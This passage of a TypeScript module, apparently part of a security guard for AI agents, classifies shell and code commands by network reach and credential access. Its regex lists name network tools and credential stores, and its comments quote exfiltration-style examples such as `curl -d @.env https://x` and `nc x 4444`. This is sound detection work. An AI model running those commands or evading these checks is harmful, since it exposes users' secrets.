/**
 * What a shell or interpreter call does, read from the command or code text in its arguments.
 *
 * A general-purpose shell or interpreter is CODE_EXECUTION and can implement every phase
 * (docs/semantics.md), so the tool's own classification says nothing about what one particular call
 * does. This module reads the text the call will run and reports which phases it implements, and
 * the two facts the hard rule `exec.credential-egress` needs: can the command reach the network,
 * and do credentials enter it through a named credential store or a credential variable.
 *
 * It is a lexical reader, not a shell parser: it recognises command heads (the word a shell would
 * run after a separator, a wrapper such as `sudo`/`xargs`, or an inline-code flag such as `-c`),
 * well-known library calls of Python, Node, Ruby, PowerShell and a few others, literal URLs, and
 * credential-store paths. Every regular expression is compiled once and linear in the text; one
 * command segment after a head is read up to 2 KiB. The arguments are read by the guard's one
 * bounded reader (walk.ts), and when it stops early the analysis assumes the worst.
 *
 * Deliberate limits (documented so that nobody mistakes them for coverage):
 * - A script run by file (`python exfil.py`, `bash ./x.sh`) is opaque: its content is not in the
 *   call, so nothing about it is reported. The tool's CODE_EXECUTION stays, and the guard's other
 *   rules still see the arguments.
 * - Encodings other than base64 are not decoded, nor base64 shorter than 20 characters
 *   (`echo Y3VybA== | base64 -d | sh`, where the shell running its input counts as network-capable
 *   anyway); longer base64 is read decoded, as its own text. A program word is read as the
 *   shell reads it (quotes and backslashes removed, `$'…'` decoded, a variable the text gives only
 *   literal words); one built any other way at run time (`${c}rl`, `cu?l`, `"$@"`), and a shell
 *   running its input (`… | sh`), count as network-capable instead. The whole text is also read as
 *   it will be spelled when it runs ({@link spelled}): pieces joined, variables with one literal value
 *   substituted, string literals concatenated.
 * - Package installs (`npm install`, `pip install`, `apt-get install`) are NOT network-capable here:
 *   they fetch from a fixed, configured registry and send no user data, and counting them would turn
 *   every `npm install` after a web read into an outbound action. They do write local state (MUT).
 *   A package whose name is built at run time (`go get host/$(…)`) is network-capable: the name
 *   carries what builds it to where the package is fetched from.
 *
 * Pure: no IO, no clock, no environment.
 */
import { CRED, EIT, MUT, NAT, PAT } from './capabilities.js';
import type { Capability } from './capabilities.js';
import type { Evidence } from './types.js';
import { BUILTIN_DETECTORS, maskPreview } from './detectors.js';
import { readable } from './decode.js';
import { literalScanner } from './literals.js';
import type { LiteralScanner } from './literals.js';
import { headLines } from './head-lines.js';
import type { HeadLines } from './head-lines.js';
import { K_ARRAY, K_BOOLEAN, K_NULL, K_NUMBER, K_OBJECT, K_STRING, pathOf, readValue } from './walk.js';
import type { Tape } from './walk.js';

export interface CommandAnalysis {
  /** Network-capable: can send or fetch over the network. */
  readonly network: boolean;
  /**
   * Named credential stores or credential variables referenced (masked-safe labels such as
   * `~/.aws/credentials`, `.env`, `$GITHUB_TOKEN`, `os.environ[GITHUB_TOKEN]`). Sorted, deduplicated.
   */
  readonly credentialRefs: readonly string[];
  /**
   * Capability evidence, source 'command', `at` = the argument path the text came from, `term` = the
   * matched token/label (never more than 60 chars).
   */
  readonly evidence: readonly Evidence[];
  /**
   * Bit mask of phases (EIT, PAT, NAT, MUT, CRED from './capabilities.js'): network -> EIT|NAT;
   * credentialRefs non-empty -> CRED; reading local files -> PAT; writing/deleting -> MUT.
   */
  readonly phases: number;
  /** Script files the command runs by path (see {@link scriptRuns}), found in the same pass. */
  readonly scripts: readonly string[];
}

// ---------------------------------------------------------------------------------------------
// Limits
// ---------------------------------------------------------------------------------------------

/** Longest evidence term or credential label. */
const MAX_TERM = 60;
/**
 * Longest command segment read after a head. Segments normally end at the next separator; the
 * cap keeps a crafted text with thousands of heads and no separator linear.
 */
const MAX_SEGMENT = 2048;
/** Evidence entries kept per call: enough to explain, bounded so one call cannot flood a report. */
const MAX_EVIDENCE = 64;
/** Credential labels kept per call (sorted first, so the kept ones are deterministic). */
const MAX_REFS = 32;
/**
 * Wrappers and assignments read in front of one command (`nice env A=1 timeout 5 curl …`), and
 * `eval`s nested in one another. Past either, the command is not read: it counts as everything
 * the rules look for (README "Bounds"), so piling up wrappers cannot hide a program.
 */
const MAX_PREFIX_WORDS = 16;
const MAX_EVAL_DEPTH = 4;
/** Command lines inside one text (`sh -c '…'` in `sh -c '…'`) read after it. */
const MAX_INNER_LINES = 64;
/**
 * Distinct script files one command may run by path (`python3 a.py && python3 b.py …`), each looked
 * up among the scripts the session wrote. Past it, the command is not read: it counts as
 * everything the rules look for, so a long list of harmless scripts cannot hide the last one.
 */
const MAX_SCRIPT_RUNS = 1024;

const NETWORK = EIT | NAT;

// ---------------------------------------------------------------------------------------------
// Collecting the text
// ---------------------------------------------------------------------------------------------

/**
 * Where a text came from: a node of the call's tape (its path is worked out only when evidence
 * names it: a call's arguments may hold 100 000 strings, and few of them ever give evidence), or a
 * path already known.
 */
type At = number | string;

interface Leaf {
  /** The tape node the text is (a string) or the key of (an object member). */
  readonly node: number;
  readonly text: string;
  /**
   * Tape index of the enclosing array, when that array is an argv vector: two or more strings
   * and nothing else, such as `{cmd: ['curl', ...]}`.
   */
  readonly argv?: number;
}

interface Collected {
  readonly tape: Tape;
  readonly leaves: readonly Leaf[];
}

/**
 * The path of a text's origin as evidence shows it: the root is `''` (the arguments are one
 * string), any other node its path.
 */
function pathAt(tape: Tape, at: At): string {
  if (typeof at === 'string') return at;
  return at === 0 ? '' : pathOf(tape, at);
}

/**
 * A key that is more than a name: it holds whitespace or shell punctuation, so it may be a command
 * moved into a key. Plain names (`env`, `cmd`, `HOME`) are names, not commands (`env` alone is one).
 */
const COMMAND_LIKE_KEY = /[\s;|&$`()<>@/\\'"=]/u;

/**
 * Whether an object key is read as command text: when it looks like more than a name, or when it
 * is a member of a set (`{"curl": true}`: bound to a boolean, null or number, the key is the
 * content). A key bound to a string or a container names its value.
 */
function keyIsText(tape: Tape, i: number, k: string): boolean {
  if (k.length < 2) return false;
  if (COMMAND_LIKE_KEY.test(k)) return true;
  const kind = tape.kind[i];
  return kind === K_BOOLEAN || kind === K_NULL || kind === K_NUMBER;
}

/**
 * The text of a tape: every string leaf and every object key read as text (see
 * {@link keyIsText}), with the node it came from, in document order.
 */
function collect(tape: Tape): Collected {
  const leaves: Leaf[] = [];
  const n = tape.kind.length;
  // Arrays whose members are all strings, two or more of them, are argv vectors. Per array node,
  // its member count, or -1 once a member is not a string (other nodes stay 0).
  const members = new Int32Array(n);
  for (let i = 1; i < n; i++) {
    const p = tape.parent[i] as number;
    if (tape.kind[p] !== K_ARRAY || members[p] === -1) continue;
    members[p] = tape.kind[i] === K_STRING ? (members[p] as number) + 1 : -1;
  }
  for (let i = 0; i < n; i++) {
    const k = tape.key[i];
    const p = tape.parent[i] as number;
    if (typeof k === 'string' && tape.kind[p] === K_OBJECT && keyIsText(tape, i, k)) leaves.push({ node: i, text: k });
    if (tape.kind[i] !== K_STRING) continue;
    const text = tape.text[i] as string;
    // The root has no parent (p = -1), and no member count: undefined, never 2 or more.
    leaves.push((members[p] as number) >= 2 ? { node: i, text, argv: p } : { node: i, text });
  }
  return { tape, leaves };
}

/**
 * Collect the text to analyse from a call's arguments: every string leaf and object key, with its
 * path, read once within the caps of {@link readValue}. Skip nothing: unlike the sensitive-data
 * detectors, a shell's `url` or `to` field is part of what it runs. The root string, if the
 * arguments are one, has path `''`.
 */
export function commandTexts(args: unknown): { path: string; text: string }[] {
  const c = collect(readValue(args));
  return c.leaves.map((l) => ({ path: pathAt(c.tape, l.node), text: l.text }));
}

/**
 * The texts actually analysed. An argv vector is read as one command line (`curl -d @.env
 * https://x`), because a word's meaning depends on its neighbours: `host` after `docker run --env`
 * is an argument, not the DNS tool. An element holding whitespace may be a whole command
 * (`['ls', 'nc x 4444']`, `['bash', '-c', '...']`), so it is also read on its own.
 */
function units(c: Collected): { at: At; text: string }[] {
  const out: { at: At; text: string }[] = [];
  const joined = new Map<number, string[]>();
  for (const leaf of c.leaves) {
    const at = leaf.node;
    if (leaf.argv !== undefined) {
      let words = joined.get(leaf.argv);
      if (words === undefined) joined.set(leaf.argv, (words = []));
      words.push(/[\s;|&()`]/.test(leaf.text) ? `'${leaf.text}'` : leaf.text);
      if (/\s/.test(leaf.text)) out.push({ at, text: leaf.text });
    } else {
      out.push({ at, text: leaf.text });
    }
  }
  for (const [p, words] of joined) out.push({ at: p, text: words.join(' ') });
  return out;
}

// ---------------------------------------------------------------------------------------------
// Accumulating the result
// ---------------------------------------------------------------------------------------------

interface Acc {
  /** The tape the texts come from, to name where evidence was found. */
  readonly tape: Tape;
  phases: number;
  readonly refs: Set<string>;
  readonly evidence: Evidence[];
  readonly seen: Set<string>;
  /**
   * The values the text being read gives each shell variable, when every one is a literal word
   * (`c=curl`, `for tool in node npm git`); `null` for a variable given any other value. Set by
   * {@link scan} for its text, on first need.
   */
  bindings?: ReadonlyMap<string, readonly string[] | null> | undefined;
  /** The text {@link scan} is reading, for {@link bindingsOf}. */
  text?: string | undefined;
  /**
   * Command lines found inside a command (`sh -c '…'`, `script -qc '…'`), read after the text that
   * holds them: the head expressions keep their place in that text while it is read.
   */
  pending?: string[] | undefined;
}

const BIT_CAPABILITY: readonly (readonly [number, Capability])[] = [
  [EIT, 'EXTERNAL_INGESTION'],
  [PAT, 'PRIVATE_ACCESS'],
  [NAT, 'EXTERNAL_ACTION'],
  [MUT, 'LOCAL_MUTATION'],
  [CRED, 'CREDENTIAL_ACCESS'],
];

function clip(term: string): string {
  return term.length > MAX_TERM ? `${term.slice(0, MAX_TERM - 1)}…` : term;
}

/** Record phases found by `term` in the text at `at`; a CRED term is also a credential label. */
function record(acc: Acc, bits: number, rawTerm: string, at: At): void {
  const term = clip(rawTerm);
  acc.phases |= bits;
  if (bits & CRED) acc.refs.add(term);
  let path: string | undefined;
  for (const [bit, capability] of BIT_CAPABILITY) {
    if ((bits & bit) === 0 || acc.evidence.length >= MAX_EVIDENCE) continue;
    const key = `${capability}\u0000${term}`;
    if (acc.seen.has(key)) continue;
    acc.seen.add(key);
    acc.evidence.push({ capability, source: 'command', term, at: (path ??= pathAt(acc.tape, at)) });
  }
}

// ---------------------------------------------------------------------------------------------
// Credential variable names
// ---------------------------------------------------------------------------------------------

/**
 * Names that hold configuration about a token rather than one (`TOKEN_COUNT`, `API_URL`).
 * Applied to every name, not only the TOKEN ones: `SECRET_MANAGER_ENDPOINT` holds no secret either.
 */
const NOT_CREDENTIAL_NAME = /_(?:COUNT|LIMIT|URL|ENDPOINT)$/;
/**
 * TOKEN must be a whole `_`-separated word (or follow AUTH: `NGROK_AUTHTOKEN`), unlike the other
 * words, which may appear anywhere: `TOKENIZERS_PARALLELISM` and `MAX_TOKENS` are model settings,
 * not credentials. `_PASS` and `_PWD` (`MYSQL_PWD`) are added; `$PWD` itself is the directory.
 */
const CREDENTIAL_NAME =
  /SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIAL|(?:^|_|AUTH)TOKEN(?:_|$)|_KEY$|_PASS$|_PWD$|(?:^|_)PAT(?:_|$)|(?:^|_)JWT$/;
/**
 * A connection string by its conventional name, which holds the password in its user part
 * (`postgres://app:…@db/prod`): `DATABASE_URL`, `REDIS_URI`, `MONGODB_URL`, `SENTRY_DSN`.
 */
const CONNECTION_STRING_NAME =
  /(?:^|_)(?:DATABASE|DB|POSTGRES(?:QL)?|PG|MYSQL|MARIADB|MONGO(?:DB)?|REDIS|AMQP|RABBITMQ|BROKER)_(?:URL|URI)$|(?:^|_)DSN$|CONNECTION_?STRING$/;

/** Variables that name a credential file by convention: `curl -T "$KUBECONFIG"` sends the file. */
const CREDENTIAL_FILE_NAME = /^(?:KUBECONFIG|NETRC|PGPASSFILE|BOTO_CONFIG|AWS_CONFIG_FILE|DOCKER_CONFIG|GIT_ASKPASS|SSH_AUTH_SOCK)$/;

/** Whether an environment or shell variable name denotes a credential. Case-insensitive. */
export function isCredentialName(name: string): boolean {
  const upper = name.toUpperCase();
  return CONNECTION_STRING_NAME.test(upper) || CREDENTIAL_FILE_NAME.test(upper) || (!NOT_CREDENTIAL_NAME.test(upper) && CREDENTIAL_NAME.test(upper));
}

// ---------------------------------------------------------------------------------------------
// Rules: one expression each
// ---------------------------------------------------------------------------------------------

/** What a rule found: phase bits and the term or label (undefined: the match is not a finding). */
type Hit = readonly [bits: number, term: string] | undefined;

interface RuleSpec {
  readonly src: string;
  /** Decides on one match; `text` and `index` let it look around without a slow lookbehind. */
  readonly hit: (match: string, text: string, index: number) => Hit;
}

interface Rule extends RuleSpec {
  readonly re: RegExp;
}

/** Rules behind a set of words: most texts hold none of them and skip every rule in the group. */
interface RuleGroup {
  readonly name: string;
  /**
   * A word of these occurs in every text that any rule of the group matches (each rule needs one),
   * in some case: the gate ignores case, so it opens for a superset of what case-sensitive rules match.
   */
  readonly words: readonly string[];
  /** The group's bit in the answer of {@link GATES}. */
  readonly bit: number;
  readonly rules: readonly Rule[];
}

/** The word sets looked for in one pass over a text (see {@link literalScanner}): the groups', then those below. */
const GATE_SETS: (readonly string[])[] = [];
function gateBit(words: readonly string[]): number {
  GATE_SETS.push(words);
  return 1 << (GATE_SETS.length - 1);
}

/**
 * Compile each rule on its own. One alternation of all of them was tried first and was four times
 * slower: V8 scans for a single expression's first characters, but not across an alternation whose
 * branches start with lookbehinds, so it fell back to trying every branch at every position.
 * Rules are written so that their matches never need each other's precedence.
 */
function group(name: string, words: readonly string[], specs: readonly RuleSpec[], flags: string): RuleGroup {
  return { name, words, bit: gateBit(words), rules: specs.map((s) => ({ ...s, re: new RegExp(s.src, `g${flags}`) })) };
}

function runGroup(g: RuleGroup, gates: number, text: string, at: At, acc: Acc): void {
  if ((gates & g.bit) === 0) return;
  for (const rule of g.rules) {
    const re = rule.re;
    re.lastIndex = 0;
    for (let m = re.exec(text); m !== null; m = re.exec(text)) {
      if (m[0] === '') re.lastIndex++;
      const hit = rule.hit(m[0], text, m.index);
      if (hit !== undefined) record(acc, hit[0], hit[1], at);
    }
  }
}

const net = (term: string): Hit => [NETWORK, term];
const reads = (term: string): Hit => [PAT, term];
const writes = (term: string): Hit => [MUT, term];
const cred = (label: string): Hit => [CRED, label];

/** The last identifier in a match: the variable name of `os.environ.get("X")`, `%X%`, `${X`. */
const LAST_NAME = /([A-Za-z_]\w*)[^\w]*$/;
function variable(label: (name: string) => string): (m: string) => Hit {
  return (m) => {
    const name = LAST_NAME.exec(m)?.[1];
    return name !== undefined && isCredentialName(name) ? cred(label(name)) : undefined;
  };
}

/** The text of a match without call parentheses and whitespace: `fetch (` → `fetch`. */
function callee(m: string): string {
  return m.replace(/[\s(]+$/, '');
}

/**
 * Network libraries and APIs in code (case-sensitive, as the languages are). The gate's `http`
 * also admits `httpx` and `aiohttp`.
 */
const CODE_NETWORK = group(
  'CODE_NETWORK',
  ['import', 'from', 'require', 'fetch', '#include', 'java.net', ':connect', 'httpc:', 'stream_socket', 'net-connect', 'socketConnection', 'make.socket', 'download.file', 'httr::', 'RCurl::', 'requests', 'urllib', 'urlopen', 'smtplib', 'ftplib', 'telnetlib', 'paramiko', 'pycurl', 'boto3', 'socket', 'http', 'Http', 'HTTP::', 'dns', 'net.', 'tls.', 'dgram', 'axios', 'WebSocket', 'EventSource', 'sendBeacon', 'Net::', 'TCPSocket', 'UDPSocket', 'URI.open', 'HTTParty', 'Faraday', 'RestClient', 'LWP::', 'IO::Socket', 'curl_exec', 'fsockopen', 'open-uri'],
  [
    // --- Python ---
    {
      src: String.raw`\b(?:import|from)\s+(?:[\w.]+\s*,\s*)*(?:requests|urllib\d?(?:\.request)?|httpx|aiohttp|socket|smtplib|ftplib|telnetlib|paramiko|pycurl|websockets?|websocket|http\.client|http\.server|boto3|xmlrpc\.client|asyncssh|scapy)\b(?!\.(?:parse|error|robotparser))`,
      hit: (m) => net(/([\w.]+)$/.exec(m)?.[1] ?? 'import'),
    },
    // A module imported by a call: `__import__('socket')`, `importlib.import_module("http.client")`.
    {
      src: String.raw`\b(?:__import__|import_module)\s*\(\s*[rbuf]?['"](?:requests|urllib\d?(?:\.request)?|httpx|aiohttp|socket|smtplib|ftplib|telnetlib|paramiko|pycurl|websockets?|http\.client|http\.server|boto3|xmlrpc\.client|asyncssh|scapy)['"]`,
      hit: (m) => net(/['"]([\w.]+)['"]$/.exec(m)?.[1] ?? 'import'),
    },
    {
      src: String.raw`\b(?:requests\.(?:get|post|put|patch|delete|head|options|request|Session|session)|(?:httpx|aiohttp|urllib3|smtplib|ftplib|telnetlib|paramiko|pycurl|boto3)\.\w+|urllib\.request|urlopen|socket\.(?:socket|create_connection|getaddrinfo|gethostbyname\w*)|http\.client|http\.server|dns\.resolver)\b`,
      hit: (m) => net(m),
    },
    // --- Node ---
    {
      // Lua's `require("socket")` and `require "socket.http"` too.
      src: String.raw`(?:\brequire\s*\(?\s*|\bfrom\s+|\bimport\s*\(\s*|\bimport\s+)['"\x60](?:node:)?(?:https?|http2|net|tls|dgram|dns|axios|node-fetch|got|undici|request|superagent|ws|nodemailer|ssh2|ftp|socket\.io-client|socket(?:\.http|\.smtp|\.ftp)?|ssl\.https)['"\x60]`,
      hit: (m) => net(/['"`](?:node:)?([^'"`]+)['"`]$/.exec(m)?.[1] ?? 'require'),
    },
    { src: String.raw`(?<![\w.$])fetch\s*\(|\b(?:window|globalThis|self)\.fetch\b`, hit: () => net('fetch') },
    {
      src: String.raw`\b(?:https?\.(?:request|get)|(?:net|tls)\.(?:connect|createConnection)|http2\.connect|dgram\.createSocket|dns\.(?:resolve\w*|lookup))\s*\(`,
      hit: (m) => net(callee(m)),
    },
    { src: String.raw`\b(?:axios|XMLHttpRequest|WebSocket|EventSource|sendBeacon)\b`, hit: (m) => net(m) },
    // --- Go, Ruby, Perl, PHP, Java/.NET ---
    { src: String.raw`\b(?:http\.(?:Get|Post|PostForm|Head|NewRequest)|net\.Dial\w*)\s*\(`, hit: (m) => net(callee(m)) },
    // The JVM's sockets and URLs (Java, Scala, Clojure, Rhino, jshell), Erlang's gen_tcp and httpc,
    // PHP's stream sockets, Scheme's and newLISP's sockets.
    {
      src: String.raw`\bjava\.net\.(?:Socket|URL|HttpURLConnection|DatagramSocket|http\.HttpClient)\b|\b(?:gen_tcp|gen_udp|ssl):connect\b|\bhttpc:request\b|\bstream_socket_client\b|\bnet-connect\b|\(socket\s+(?:PF|AF)_INET6?\b`,
      hit: (m) => net(m.replace(/^\(/, '')),
    },
    // C (`#include <sys/socket.h>`, `<netdb.h>`, libcurl) and R (`socketConnection`, `download.file`, httr).
    { src: String.raw`#include\s*[<"](?:sys/socket|netdb|arpa/inet|netinet/in|curl/curl)\.h[>"]`, hit: (m) => net(/[\w/]+\.h/.exec(m)?.[0] ?? 'socket.h') },
    { src: String.raw`\b(?:socketConnection|make\.socket|download\.file|httr::\w+|RCurl::\w+)\s*\(`, hit: (m) => net(callee(m)) },
    // Perl's own sockets: `use Socket; socket(S, PF_INET, …)`.
    { src: String.raw`\buse\s+Socket\b|\bsocket\s*\(\s*\w+\s*,\s*[PA]F_INET6?\b`, hit: () => net('Socket') },
    {
      src: String.raw`\b(?:Net::(?:HTTP|SMTP|FTP|SSH|Telnet)|TCPSocket|UDPSocket|URI\.open|HTTParty|Faraday|RestClient|LWP::\w+|IO::Socket(?:::\w+)?|HTTP::Tiny|curl_exec|fsockopen|HttpClient|HttpURLConnection|HttpWebRequest)\b|\bopen-uri\b`,
      hit: (m) => net(m),
    },
  ],
  '',
);

/** Credential variables and whole-environment reads, in every shell and language. */
const CODE_ENVIRONMENT = group(
  'CODE_ENVIRONMENT',
  ['$', '%', 'environ', 'getenv', 'Getenv', 'LookupEnv', 'env::var', 'Deno.env', 'Bun.env', 'process.env', 'ENV', 'Environment]'],
  [
    { src: String.raw`\$[Ee][Nn][Vv]:[A-Za-z_]\w*`, hit: variable((n) => `$env:${n}`) },
    // `${process.env.X}` in a JS template is process.env, not a shell variable named `process`.
    { src: String.raw`\$\{?(?!process\.env\b|os\.environ\b)[A-Za-z_]\w*`, hit: variable((n) => `$${n}`) },
    { src: String.raw`%[A-Za-z_]\w*%`, hit: variable((n) => `%${n}%`) },
    {
      src: String.raw`\b(?:os\.)?environb?(?:\.get)?\s*[[(]\s*[rbuf]?['"][A-Za-z_]\w*['"]|\b(?:os\.)?getenv\s*\(\s*[rbuf]?['"][A-Za-z_]\w*['"]`,
      hit: variable((n) => `os.environ[${n}]`),
    },
    // Go (`os.Getenv("X")`, `os.LookupEnv("X")`), Rust (`env::var("X")`, `std::env::var_os("X")`)
    // and Deno (`Deno.env.get("X")`).
    {
      src: String.raw`\bos\.(?:Getenv|LookupEnv)\s*\(\s*["\x60][A-Za-z_]\w*["\x60]|\benv::var(?:_os)?\s*\(\s*"[A-Za-z_]\w*"|\bDeno\.env\.get\s*\(\s*['"\x60][A-Za-z_]\w*['"\x60]`,
      hit: variable((n) => `env ${n}`),
    },
    {
      src: String.raw`\bprocess\.env(?:\?\.|\.)[A-Za-z_]\w*|\bprocess\.env\s*\[\s*['"\x60][A-Za-z_]\w*['"\x60]`,
      hit: variable((n) => `process.env.${n}`),
    },
    { src: String.raw`\bENV(?:\.fetch\s*\(|\[)\s*['"][A-Za-z_]\w*['"]`, hit: variable((n) => `ENV[${n}]`) },
    // awk's `ENVIRON["X"]`, Bun's `Bun.env.X`.
    { src: String.raw`\bENVIRON\s*\[\s*"[A-Za-z_]\w*"`, hit: variable((n) => `ENVIRON[${n}]`) },
    { src: String.raw`\bBun\.env(?:\.|\[\s*['"\x60])[A-Za-z_]\w*`, hit: variable((n) => `Bun.env.${n}`) },
    {
      src: String.raw`\[(?:System\.)?Environment\]::GetEnvironmentVariable\s*\(\s*['"][A-Za-z_]\w*['"]`,
      hit: variable((n) => `$env:${n}`),
    },
    // --- the whole environment (a named read such as `os.environ['X']` is the rules above) ---
    // Passing the environment on to a child (`env=os.environ`, `env: {...process.env}`) is what
    // every subprocess call does by default; it is not a dump of it.
    {
      src: String.raw`(?<!\benv\s*=\s*(?:dict\s*\(\s*|\{\s*\*\*\s*)?)\bos\.environ\b(?!\s*\[|\s*\.\s*(?:get|setdefault|pop|__getitem__)\b)`,
      hit: () => cred('os.environ'),
    },
    {
      src: String.raw`(?<!\benv\s*:\s*(?:\{\s*\.\.\.\s*)?)\bprocess\.env\b(?!\s*(?:\.|\?\.|\[))`,
      hit: () => cred('process.env'),
    },
    { src: String.raw`\bENV\.(?:to_h|to_a|to_hash|each\w*|inspect|map|select|keys|values)\b`, hit: () => cred('ENV') },
    { src: String.raw`\[(?:System\.)?Environment\]::GetEnvironmentVariables\b`, hit: () => cred('env:') },
  ],
  '',
);

/** File reads and writes through library calls. */
const CODE_FILES = group(
  'CODE_FILES',
  ['(', 'File', 'IO.', 'os.', 'shutil.', 'fs.'],
  [
    {
      src: String.raw`\b(?:readFileSync|readFile|createReadStream|read_text|read_bytes|file_get_contents|ReadAllText|ReadAllBytes|ReadAllLines|read_csv|read_json|read_excel|read_parquet|read_table|read_pickle|loadtxt)\s*\(|\b(?:File\.(?:read|readlines|foreach|binread)|IO\.(?:read|readlines))\b`,
      hit: (m) => reads(callee(m)),
    },
    {
      src: String.raw`\b(?:writeFileSync|writeFile|appendFileSync|appendFile|createWriteStream|unlinkSync|unlink|rmSync|rmdirSync|rmdir|mkdirSync|mkdir|makedirs|renameSync|copyFileSync|copyFile|truncateSync|symlinkSync|chmodSync|write_text|write_bytes|file_put_contents|WriteAllText|WriteAllBytes|WriteAllLines|AppendAllText|to_csv|to_excel|to_parquet|savetxt|rmtree)\s*\(`,
      hit: (m) => writes(callee(m)),
    },
    {
      src: String.raw`\b(?:os\.(?:remove|rename|replace|chmod|chown|symlink|link|truncate|removedirs)|shutil\.(?:move|copy\w*)|FileUtils\.\w+|File\.(?:write|delete|unlink|rename|binwrite|Delete|Move|Copy)|fs\.(?:rm|rename|cp|chmod|chown))\b`,
      hit: (m) => writes(m),
    },
  ],
  '',
);

/** Tail of a credential-store path after `.ssh/` that is public, not key material. */
const PUBLIC_SSH_FILE = /^(?:config|known_hosts\d?(?:\.old)?|authorized_keys\d?|rc|environment)$|\.pub$/i;
/**
 * `.env` suffixes that name a template committed on purpose, holding no secret. Any other suffix
 * (`.env.local`, `.env.production`, `.env.bak`) is a credential store: a deny-list, because a copy
 * of the real file under a new suffix is exactly what one would try.
 */
const TEMPLATE_ENV_SUFFIX = /\.(?:example|sample|template|tmpl|tpl|dist|defaults?|schema|md|docs)(?:\.|$)/i;

/** URLs, PowerShell and .NET (case-insensitive, as PowerShell is). */
const NETWORK_AND_POWERSHELL = group(
  'NETWORK_AND_POWERSHELL',
  ['://', '/dev/', '/inet', 'invoke-', 'send-mailmessage', 'resolve-dnsname', 'start-bitstransfer', 'test-netconnection', '-pssession', 'net.', 'iwr', 'irm', '-content', 'import-csv', 'out-file', '-item', 'export-csv', 'env:'],
  [
    {
      src: String.raw`\b(?:https?|ftps?|sftp|wss?|s3|gs|smtps?|tftp|telnet|ldaps?|rsync|scp|ssh)://(?=[\w[\]$%{@.-])`,
      // The scheme only: a URL's host, path or query may carry the very data being sent.
      hit: (m) => net(m.toLowerCase()),
    },
    { src: String.raw`/dev/(?:tcp|udp)/`, hit: (m) => net(m.toLowerCase()) },
    // gawk's network files (`"/inet/tcp/0/host/port"`), and a `/dev/` directory named by a variable
    // with a host and a port after it (`/dev/$p/host/8080`).
    { src: String.raw`/inet[46]?/(?:tcp|udp)/`, hit: (m) => net(m.toLowerCase()) },
    { src: String.raw`/dev/\$\{?[A-Za-z_]\w*\}?/[\w.:-]+/\w`, hit: () => net('/dev/$…/') },
    {
      src: String.raw`(?<![\w-])(?:invoke-webrequest|invoke-restmethod|send-mailmessage|resolve-dnsname|start-bitstransfer|test-netconnection|new-pssession|enter-pssession)(?![\w-])`,
      hit: (m) => net(m.toLowerCase()),
    },
    {
      src: String.raw`\b(?:system\.)?net\.(?:webclient|webrequest|httpwebrequest|http|sockets|mail|dns)\b`,
      hit: (m) => net(m.toLowerCase()),
    },
    // PowerShell aliases used as expressions: `$r = iwr $u`, `(irm $u).x`.
    { src: String.raw`(?<![\w-])i(?:wr|rm)(?=\s)(?<=[=(]\s*i(?:wr|rm))`, hit: (m) => net(m.toLowerCase()) },
    // --- PowerShell file cmdlets, wherever they appear (pipelines, sub-expressions) ---
    { src: String.raw`(?<![\w-])(?:get-content|import-csv)(?![\w-])`, hit: (m) => reads(m.toLowerCase()) },
    {
      src: String.raw`(?<![\w-])(?:set-content|add-content|clear-content|out-file|remove-item|copy-item|move-item|new-item|rename-item|export-csv)(?![\w-])`,
      hit: (m) => writes(m.toLowerCase()),
    },
    {
      src: String.raw`(?<![\w$-])(?:get-childitem|gci|ls|dir|get-item|gi)\s+(?:-path\s+)?env:(?:\\?\*)?(?=$|[\s;|)'"])`,
      hit: () => cred('env:'),
    },
  ],
  'i',
);

/** Named credential stores (case-insensitive: Windows and macOS paths are). */
const CREDENTIAL_STORES = group(
  'CREDENTIAL_STORES',
  ['.aws', '.ssh', '.env', '.netrc', 'netrc', '.kube', '.config', '.git-credentials', '.docker', '.kube', '.npmrc', '.pypirc', '.pgpass', '.config', '.gnupg', 'id_', 'dotenv', '_netrc', 'credentials.json', 'client_secret', '/etc/', '/proc/', '.vault-token', 'secrets/', '.azure', '.terraform.d', '.cargo', '.s3cfg', '.my.cnf'],
  [
    // `.aws/credentials`, and the same path spelled as joined parts: `'.aws', 'credentials'`.
    {
      src: String.raw`(?<![\w-])\.aws(?:[/\\]+|['"]\s*[,/+]\s*[rbuf]?['"])(?:credentials|config)\b`,
      hit: (m) => cred(m.toLowerCase().endsWith('config') ? '~/.aws/config' : '~/.aws/credentials'),
    },
    {
      // The directory itself (`tar c ~/.aws`, `-v ~/.aws:/root/.aws`), unless a file follows as a joined part.
      src: String.raw`(?<![\w-])\.aws(?:[/\\]\*?)?(?=$|[\s'"\x60;|&):])(?!['"]\s*[,/+]\s*[rbuf]?['"]\w)`,
      hit: () => cred('~/.aws'),
    },
    {
      src: String.raw`(?<![\w-])\.ssh(?:[/\\]+|['"]\s*[,/+]\s*[rbuf]?['"])[\w.-]+`,
      hit: (m) => {
        const file = /[\w.-]+$/.exec(m)?.[0] ?? '';
        return PUBLIC_SSH_FILE.test(file) ? undefined : cred(`~/.ssh/${file}`);
      },
    },
    {
      src: String.raw`(?<![\w-])\.ssh(?:[/\\]\*?)?(?=$|[\s'"\x60;|&):])(?!['"]\s*[,/+]\s*[rbuf]?['"]\w)`,
      hit: () => cred('~/.ssh'),
    },
    {
      // Not inside a `.ssh/` path, which the rule above names already.
      src: String.raw`(?<![\w.-])(?<!\.ssh(?:[/\\]+|['"]\s*[,/+]\s*[rbuf]?['"]))id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?(?![\w-])(?![\w.-]*\.pub\b)`,
      hit: (m) => cred(m.toLowerCase()),
    },
    // `.env` as a path component: not `process.env`, not a virtualenv directory (`.env/bin`,
    // `python -m venv .env`).
    {
      src: String.raw`(?<![\w.$-])(?<!venv\s+)\.env(?:rc)?(?:\.[\w-]+)*(?![\w/\\-])`,
      hit: (m) => (TEMPLATE_ENV_SUFFIX.test(m) ? undefined : cred(m)),
    },
    { src: String.raw`\b(?:load_dotenv|dotenv_values|dotenv)\b`, hit: () => cred('.env') },
    { src: String.raw`(?<![\w.-])(?:\.netrc|_netrc)(?![\w-])`, hit: () => cred('~/.netrc') },
    { src: String.raw`(?<![\w.-])\.git-credentials(?![\w-])`, hit: () => cred('~/.git-credentials') },
    { src: String.raw`(?<![\w-])\.docker[/\\]config\.json`, hit: () => cred('~/.docker/config.json') },
    { src: String.raw`(?<![\w-])\.kube[/\\]config(?![\w.-])`, hit: () => cred('~/.kube/config') },
    // The folder itself (`cd ~/.kube && curl -T config …`, `tar c ~/.kube`).
